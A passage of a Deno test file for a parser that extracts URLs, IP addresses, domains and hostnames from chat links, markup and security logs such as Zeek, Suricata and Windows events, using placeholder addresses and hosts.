    "mac_addr 00:00:5e:00:53:01",
  ]],
  ["mail addresses that hold others", "SRS0=abc=tt=orig.example=user@fwd.example bounced", [
    "email_addr SRS0=abc=tt=orig.example=user@fwd.example",
  ]],
];
for (const [about, line, wanted] of WHOLE) {
  Deno.test(`readList leaves whole: ${about}`, () => deepEqual(askedOf(line), wanted));
}

const FIELDS: [line: string, wanted: string[]][] = [
  ["callback=a.example/g?b=c&d=e", ["url a.example/g?b=c&d=e"]],
  ["C2:a.example:8080/g?b=c", ["url a.example:8080/g?b=c"]],
  ["d=1&u.v=a.example/g?b=c", ["url a.example/g?b=c"]],
  ["u=a.example/g?b=(c)&d=e", ["url a.example/g?b=(c)&d=e"]],
  ["u=a.example/g?b=c,ip=192.0.2.1", ["url a.example/g?b=c", "ipv4 192.0.2.1"]],
  ["ip=2001:db8::5,x", ["ipv6 2001:db8::5"]],
  ["http:__a.example/g?b=c", ["url http://a.example/g?b=c"]],
];
for (const [line, wanted] of FIELDS) {
  Deno.test(`readList reads a field: ${line}`, () => deepEqual(askedOf(`seen: ${line} .`), wanted));
}

const LINKS: [program: string, line: string, wanted: string[]][] = [
  ["Slack", "see <http://s.example/a?x=1|s.example> now", [
    "url http://s.example/a?x=1",
    "domain s.example",
  ]],
  ["Jira", "see [http://s.example/a?x=1|the page] and [it|http://t.example/b]", [
    "url http://s.example/a?x=1",
    "url http://t.example/b",
  ]],
  ["Org mode", "see [[http://s.example/a?x=1][the page]] now", ["url http://s.example/a?x=1"]],
  ["forums", "[url=http://s.example/a?x=1]it[/url] and [url]http://t.example/[/url]", [
    "url http://s.example/a?x=1",
    "url http://t.example/",
  ]],
  ["Asciidoctor", "see http://s.example/a?x=1[the page] now", ["url http://s.example/a?x=1"]],
  ["Textile", 'see "the page":http://s.example/a?x=1 now', ["url http://s.example/a?x=1"]],
  ["a URL with brackets of its own", "see http://s.example/?a[]=1&b[0]=2 now", [
    "url http://s.example/?a[]=1&b[0]=2",
  ]],
];
for (const [program, line, wanted] of LINKS) {
  Deno.test(`readList reads the links of ${program}`, () => deepEqual(askedOf(line), wanted));
}

const FILES: [about: string, text: string, wanted: string[]][] = [
  [
    "Zeek's tables, by the names of their columns",
    "#separator \\x09\n#fields\tts\tid.orig_h\tid.resp_h\turi\n1.1\t10.0.0.5\t203.0.113.153\t/x\n1.2\t10.0.0.6\t203.0.113.154\t/y",
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "ipv4 10.0.0.6", "ipv4 203.0.113.154"],
  ],
  [
    "Zeek's JSON, without paths",
    '{"id.orig_h":"10.0.0.5","id.resp_h":"203.0.113.153","host":"evil.example","uri":"/x"}',
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "domain evil.example"],
  ],
  [
    "Suricata's events, without paths",
    '{"src_ip":"203.0.113.153","dest_ip":"10.0.0.5","http":{"hostname":"evil.example","url":"/gate.php"},"tls":{"sni":"sni.example"}}',
    ["ipv4 203.0.113.153", "ipv4 10.0.0.5", "domain evil.example", "domain sni.example"],
  ],
  [
    "messages in JSON, and the machine that wrote them",
    '{"message":"dial tcp 10.0.0.5:51234->203.0.113.153:443: i/o timeout","host":"web01"}',
    ["ipv4 10.0.0.5", "ipv4 203.0.113.153", "hostname web01"],
  ],
  [
    "addresses with ports in a table",
    "src,dst,url\n203.0.113.153/4444,10.0.0.5:22:X1,203.0.113.9/7777\n203.0.113.154/4444,10.0.0.6,-",
    [
      "ipv4 203.0.113.153",
      "ipv4 10.0.0.5",
      "url 203.0.113.9/7777",
      "ipv4 203.0.113.154",
      "ipv4 10.0.0.6",
    ],
  ],
  [
    "a column of messages, without the names of columns",
    'time,raw\n10:00,"Failed, from 203.0.113.153:22"\n10:01,"TCP 203.0.113.154.443 > 10.0.0.5.5"',
    ["ipv4 203.0.113.153", "ipv4 203.0.113.154", "ipv4 10.0.0.5"],
  ],
  [
    "ends of connections that may be networks",
    "id|src|dst\n1|203.0.113.153:4444|10.0.0.5/22\n2|203.0.113.154|10.0.0.0/24",
    [
      "ipv4 203.0.113.153",
      "ipv4_net 10.0.0.0/22",
      "ipv4 10.0.0.5",
      "ipv4 203.0.113.154",
      "ipv4_net 10.0.0.0/24",
    ],
  ],
  [
    "events of Windows",
    "An account failed to log on.\n\tWorkstation Name:\tEVIL\n\tSource Network Address:\t203.0.113.153\n\tSource Port:\t51234\n",
    ["ipv4 203.0.113.153"],
  ],
];
for (const [about, text, wanted] of FILES) {
  Deno.test(`readList reads ${about}`, () => deepEqual(askedOf(text), wanted));
}

Deno.test("readList names a column of paths among those that it did not read", () => {
  const text = '[{"ip":"192.0.2.1","uri":"/x"},{"ip":"192.0.2.2","uri":"/y"}]';
  deepEqual(readList(text).unreadColumns, ["uri"]);
});
